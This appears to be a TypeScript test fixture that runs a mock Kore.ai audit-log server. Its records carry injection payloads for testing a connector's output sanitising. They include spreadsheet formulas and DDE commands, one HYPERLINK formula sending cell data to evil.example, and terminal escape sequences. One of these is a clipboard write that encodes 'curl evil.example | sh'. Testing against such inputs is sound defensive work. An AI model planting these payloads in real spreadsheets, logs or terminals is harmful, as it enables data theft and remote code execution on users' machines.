// A tiny Kore.ai AI for Work server whose records carry spreadsheet formulas and terminal control
// sequences in every text field (the simulator's data is well-behaved and cannot be changed).
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

const ESC = '\x1b';
export const OSC8_LINK = `${ESC}]8;;https://evil.example/${ESC}\\`;
export const OSC52_CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`;
export const CLEAR_SCREEN = `${ESC}[2J${ESC}[H`;

/** The API key that reads records; `ERROR_KEY` gets a 400 whose message is hostile too. */
export const GOOD_KEY = 'hostile-vendor-good-key-0001';
export const ERROR_KEY = 'hostile-vendor-error-key-0002';

export function hostileRecords(at: string) {
  // A second apart: two records in one millisecond could be an answer cut short at two, which
  // the connector rightly refuses to call complete (see the completeness tests); not the point here.
  const second = new Date(Date.parse(at) + 1000).toISOString();
  return [
    {
      _id: 'formula-1',
      cOn: at,
      userName: '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
      userId: '-1+1',
      action: '+cmd|" /C calc"!A0',
      entity: '@SUM(1+1)*cmd|" /C calc"!A0',
      entityId: '\t=1+1',
      htmlText: '\r=2+2 line one\r\nline two',
    },
    {
      _id: 'escape-1',
      cOn: second,
      userName: `bot${OSC8_LINK}name${ESC}]8;;${ESC}\\`,
      action: `delete${CLEAR_SCREEN}`,
      entity: `role${OSC52_CLIPBOARD}`,
      htmlText: `${OSC52_CLIPBOARD}copied ${CLEAR_SCREEN}cleared \x9b31mred\x9b0m`,
    },
  ];
}

export interface HostileVendor {
  baseUrl: string;
  close(): Promise<void>;
}

export async function startHostileVendor(at: string): Promise<HostileVendor> {
  const server: Server = createServer((req, res) => {
    const key = req.headers.auth;
    if (key === ERROR_KEY) {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          errors: [
            { msg: `bad ${OSC52_CLIPBOARD}request ${CLEAR_SCREEN}${OSC8_LINK}here`, code: 4 },
          ],
        }),
      );
      return;
    }
    if (key !== GOOD_KEY) {
      res.writeHead(401, { 'content-type': 'application/json' }).end('{"errors":[{"msg":"no"}]}');
      return;
    }
    const url = new URL(req.url ?? '/', 'http://localhost');
    const start = Date.parse(url.searchParams.get('startTime') ?? '');
    const end = Date.parse(url.searchParams.get('endTime') ?? '');
    const logs = hostileRecords(at).filter(
      (r) => Date.parse(r.cOn) >= start && Date.parse(r.cOn) <= end,
    );
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ logs }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
